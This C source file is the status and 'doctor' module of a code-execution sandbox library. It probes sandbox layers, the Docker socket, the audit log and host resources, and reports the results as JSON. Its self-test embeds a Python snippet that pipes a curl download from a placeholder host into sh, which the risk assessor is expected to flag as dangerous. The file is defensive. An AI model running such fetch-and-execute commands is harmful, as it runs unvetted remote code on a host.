/* status.c - health from real probes: each component is used, not asked. */
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <sys/utsname.h>
#include <unistd.h>
#include "base/cleanup.h"
#include "base/clock.h"
#include "core/alerts.h"
#include "core/handle.h"
#include "core/host.h"
#include "docker/docker.h"
#include "native/native.h"

struct health { bool good; char reason[300]; };

static void bad(struct health *h, const char *fmt, ...) BAWN_PRINTF(2, 3);
static void bad(struct health *h, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(h->reason, sizeof h->reason, fmt, ap);
	va_end(ap);
	h->good = false;
}

/* A snippet every honest configuration calls dangerous, and one it does not. */
static void check_assessor(const struct bawn_policy *p, struct health *h)
{
	static const struct { const char *code; enum bawn_level least, most; } row[] = {
		{ "print(6*7)\n", BAWN_LEVEL_LOW, BAWN_LEVEL_LOW },
		{ "import os\nos.system('curl http://x.invalid/a | sh')\n", BAWN_LEVEL_HIGH, BAWN_LEVEL_BLOCKED },
	};
	h->good = true;
	for (size_t i = 0; h->good && i < BAWN_LEN(row); i++) {
		struct bawn_assess_file f = { NULL, BAWN_LANG_PYTHON, bawn_span(row[i].code) };
		struct bawn_assessment *a = NULL;
		struct bawn_err err = { 0 };
		if (bawn_assess(&f, 1, p, &a, &err) < 0)
			bad(h, "%s", err.msg);
		else if (a->level < row[i].least || a->level > row[i].most)
			bad(h, "a known snippet is judged %s: the policy weakens the rules", bawn_word(&bawn_level_words, (int)a->level));
		bawn_assessment_free(a);
	}
}

uint32_t bawn_need_as_root(const struct bawn_policy *p)
{
	if (geteuid() != 0)
		return 0;
	return BAWN_LAYER_BIT(UID) | (p->require_cgroup_as_root ? BAWN_LAYER_BIT(CGROUP) : 0);
}

int bawn_docker_socket(const struct bawn_policy *p, const char **out, struct bawn_err *err)
{
	const char *host = p->docker_host != NULL ? p->docker_host : secure_getenv("DOCKER_HOST");
	if (host == NULL || host[0] == '\0') {
		*out = NULL;
		return 0;
	}
	/* Root's policy is tightened by its files alone, also for root; who is sent elsewhere than they asked is to know it. */
	if (p->docker_host == NULL && p->floor_root_owned)
		return bawn_fail_as(err, BAWN_ERROR_INVALID_REQUEST, "DOCKER_HOST", "/etc/bawn belongs to root, so 'docker.host' in its sandbox.yaml says which engine is asked; unset DOCKER_HOST");
	if (strncmp(host, "unix:///", 8) != 0)
		return bawn_fail_as(err, BAWN_ERROR_BACKEND_UNAVAILABLE, "DOCKER_HOST", "the engine is asked on a Unix socket only: unix:///...");
	*out = host + strlen("unix://");
	return 0;
}

/* A probe has no slot: its launcher takes a number of its own, above them all. */
int bawn_probe_spec(const struct bawn_dirs *d, const struct bawn_policy *p, enum bawn_backend_id backend, struct bawn_sandbox_spec *out, struct bawn_err *err)
{
	bool docker = backend == BAWN_BACKEND_DOCKER;
	*out = (struct bawn_sandbox_spec){ .id = "probe", .language = BAWN_LANG_PYTHON, .interpreter = p->interpreter[BAWN_LANG_PYTHON],
		.limits = { .cpus_milli = 1000, .memory_bytes = 64u << 20, .timeout_ms = 5000, .cpu_ms = 5000, .pids = 16,
		            .disk_bytes = 8u << 20, .inodes = 1024, .open_files = 64, .output_bytes = 4096 },
		.sample_ms = 100, .need = p->minimum_enforcement[backend], .slot_fd = -1,
		.container = { .image = p->image, .runtime = p->docker_runtime, .require_patched = p->docker_require_patched },
		.uid = geteuid() == 0 || docker ? p->uid_first + p->uid_count - 1 : 0, .launcher = d->launcher };
	out->need |= bawn_need_as_root(p);
	return docker ? bawn_docker_socket(p, &out->container.engine, err) : 0;
}

/* The first layer that the policy requires and this host does not give, or -1. */
static int lacking(const struct bawn_probe *probe, uint32_t need)
{
	for (int i = 0; i < BAWN_LAYER_COUNT; i++)
		if ((need >> i & 1u) != 0 && probe->layer[i].state != BAWN_PROBE_ACTIVE)
			return i;
	return -1;
}

static void check_sandbox(const struct bawn_dirs *d, const struct bawn_policy *p, const struct bawn_backend *backend, struct health *h)
{
	struct bawn_sandbox_spec spec;
	struct bawn_probe probe = { 0 };
	struct bawn_err err = { 0 };
	h->good = true;
	if (bawn_probe_spec(d, p, backend->id, &spec, &err) < 0)
		bad(h, "%s", err.msg);
	else if (backend->id == BAWN_BACKEND_NATIVE && access(spec.interpreter, X_OK) < 0)
		bad(h, "the interpreter '%s' is absent", spec.interpreter);
	else if (backend->probe(&spec, &probe, &err) < 0)
		bad(h, "%s", err.msg);
	int i = h->good ? lacking(&probe, spec.need) : -1;
	if (i >= 0)
		bad(h, "%s is missing: %s", bawn_word(&bawn_layer_words, i), probe.layer[i].detail);
	if (h->good && !probe.usable)
		bad(h, "%s", probe.summary);
}

static void check_audit(struct bawn *b, struct bawn_audit_report *v, struct health *h)
{
	char witness[544];
	struct bawn_err err = { 0 };
	struct bawn_audit *log;
	h->good = true;
	if (bawn_log(b, &log, &err) < 0)
		bad(h, "%s", err.msg);
	(void)bawn_log_witness(&b->dirs, witness, sizeof witness);
	int r = bawn_audit_verify(b->dirs.audit, &(struct bawn_audit_verify_options){ .skim = true, .witness = witness, .witness_may = true }, v, &err);
	if (r < 0 && h->good)
		bad(h, "%s", err.msg);
	char said[200] = "";
	if (r == 0)
		bawn_alert_integrity(b, v, said, sizeof said);
	if (r == 0 && !v->ok)
		bad(h, "%s (first bad entry: %llu)%s%.60s", v->problem, (unsigned long long)v->first_bad_seq, said[0] != '\0' ? "; " : "", said);
}

static json_t *component(const struct health *h)
{
	return json_pack("{s:s, s:o}", "state", h->good ? "operational" : "degraded",
	                 "reason", h->good ? json_null() : bawn_json_text(bawn_span(h->reason)));
}

static json_t *when(uint64_t us)
{
	char at[BAWN_RFC3339_LEN];
	bawn_rfc3339(us, at);
	return us != 0 ? json_string(at) : json_null();
}

static json_t *audit_status(const struct bawn_audit_report *v, bool good)
{
	return json_pack("{s:I, s:o, s:o, s:s, s:I, s:b, s:s}", "entries", (json_int_t)v->entries, "first", when(v->first_us),
		"last", when(v->last_us), "head_hash", v->head_hash, "verified_to", (json_int_t)v->verified_to, "ok", (int)(good && v->ok),
		"anchor", v->anchor[0] != '\0' ? v->anchor : "none");
}

static int resources(const struct bawn_dirs *d, json_t **out, struct bawn_err *err)
{
	struct bawn_host host;
	struct bawn_slots s = { -1, -1 };
	uint64_t running = 0;
	int r = bawn_host_read("", &host, err);
	if (r == 0)
		r = bawn_slots_open(d->run, &s, err);
	if (r == 0)
		r = bawn_slots_running(&s, &running, err);
	bawn_slots_done(&s);
	if (r < 0)
		return r;
	*out = json_pack("{s:I, s:I, s:I, s:I}", "cpus", (json_int_t)(host.cpus_milli / 1000), "memory_total_bytes", (json_int_t)host.memory_total,
		"memory_available_bytes", (json_int_t)host.memory_available, "running", (json_int_t)running);
	return *out != NULL ? 0 : bawn_fail(err, -ENOMEM, "status");
}

int bawn_get_security_status(struct bawn *b, struct bawn_result **out, struct bawn_err *err)
{
	if (b == NULL || out == NULL)
		return bawn_fail_as(err, BAWN_ERROR_INVALID_REQUEST, NULL, "a handle and a place for the result are needed");
	struct bawn_policy_ref *p = bawn_policy_hold(b);
	struct health assessor = { 0 }, sandbox = { 0 }, docker = { .good = true }, audit = { 0 };
	bool docker_used = p->policy->image != NULL;
	int p_backend = p->policy->backend;
	struct bawn_audit_report v = { 0 };
	check_assessor(p->policy, &assessor);
	check_sandbox(&b->dirs, p->policy, &bawn_native_backend, &sandbox);
	if (docker_used)
		check_sandbox(&b->dirs, p->policy, &bawn_docker_backend, &docker);
	check_audit(b, &v, &audit);
	bawn_policy_drop(p);
	bawn_auto_json res = NULL;
	int r = resources(&b->dirs, &res, err);
	if (r < 0)
		return r;
	/* Of the backends the one that runs unless a request says counts. */
	bool walls = p_backend == BAWN_BACKEND_DOCKER ? docker.good : sandbox.good;
	int broken = !assessor.good + !walls + !audit.good;
	json_t *parts = json_pack("{s:o, s:o, s:o, s:o}", "assessor", component(&assessor), "sandbox", component(&sandbox),
		"docker", docker_used ? component(&docker) : json_pack("{s:s, s:s}", "state", "absent", "reason", "no 'image' is named in sandbox.yaml"),
		"audit", component(&audit));
	json_t *doc = json_pack("{s:s, s:o, s:O, s:o, s:o}", "system_status", broken == 0 ? "operational" : broken == 3 ? "failed" : "degraded",
		"components", parts, "resources", res, "audit", audit_status(&v, audit.good), "checked_at", when(bawn_wall_us()));
	return doc != NULL ? bawn_result_take(doc, out, err) : bawn_fail(err, -ENOMEM, "status");
}

/* --- doctor ---------------------------------------------------------------------------------- */

static json_t *layer_rows(const struct bawn_probe *probe, uint32_t need)
{
	static const char *const state[] = { [BAWN_PROBE_ACTIVE] = "active", [BAWN_PROBE_MISSING] = "missing", [BAWN_PROBE_ABSENT] = "absent" };
	json_t *list = json_array();
	bool ok = list != NULL;
	for (int i = 0; ok && i < BAWN_LAYER_COUNT; i++) {
		const struct bawn_probe_row *r = &probe->layer[i];
		bawn_json_push(list, json_pack("{s:s, s:s, s:s, s:o, s:b}", "layer", bawn_word(&bawn_layer_words, i), "state", state[r->state],
			"detail", r->detail, "fix", bawn_json_text_or_null(r->fix[0] != '\0' ? r->fix : NULL), "required", (int)(need >> i & 1u)), &ok);
	}
	if (ok)
		return list;
	json_decref(list);
	return NULL;
}

static json_t *interpreter_rows(const struct bawn_policy *p)
{
	json_t *list = json_array();
	bool ok = list != NULL;
	for (int i = 0; ok && i < BAWN_LANG_COUNT; i++)
		bawn_json_push(list, json_pack("{s:s, s:s, s:b}", "language", bawn_language[i].name, "path", p->interpreter[i],
			"present", (int)(access(p->interpreter[i], X_OK) == 0)), &ok);
	if (ok)
		return list;
	json_decref(list);
	return NULL;
}

int bawn_doctor(const struct bawn_options *o, json_t **out, struct bawn_err *err)
{
	struct bawn_dirs d;
	struct bawn_policy *p = NULL;
	int r = bawn_dirs_find(o, &d, err);
	if (r == 0)
		r = bawn_policy_load(&d.policy, &p, NULL, err);
	if (r < 0)
		return r;
	struct bawn_sandbox_spec spec;
	struct bawn_probe probe = { 0 };
	struct bawn_err why = { 0 };
	struct utsname un = { 0 };
	const struct bawn_backend *backend = p->backend == BAWN_BACKEND_DOCKER ? &bawn_docker_backend : &bawn_native_backend;
	if (bawn_probe_spec(&d, p, backend->id, &spec, &why) < 0 || backend->probe(&spec, &probe, &why) < 0) {
		probe.usable = false;
		snprintf(probe.summary, sizeof probe.summary, "%.190s", why.msg);
		for (int i = 0; i < BAWN_LAYER_COUNT; i++)
			probe.layer[i].state = BAWN_PROBE_MISSING;
	}
	int i = probe.usable ? lacking(&probe, spec.need) : -1;
	if (i >= 0) {
		probe.usable = false;
		snprintf(probe.summary, sizeof probe.summary, "the policy requires '%s': %.150s", bawn_word(&bawn_layer_words, i), probe.layer[i].detail);
	}
	(void)uname(&un);  /* cannot fail with a valid pointer */
	json_t *doc = json_pack("{s:s, s:s, s:s, s:s, s:i, s:b, s:s, s:o, s:o, s:s, s:s, s:s}", "mode", "embedded", "backend", backend->name, "version", BAWN_VERSION,
		"kernel", un.release, "uid", (int)geteuid(), "usable", (int)probe.usable, "summary", probe.summary,
		"layers", layer_rows(&probe, spec.need), "interpreters", interpreter_rows(p), "launcher", d.launcher,
		"state_dir", d.state, "run_dir", d.run);
	bawn_policy_free(p);
	if (doc == NULL)
		return bawn_fail(err, -ENOMEM, "doctor");
	*out = doc;
	return 0;
}
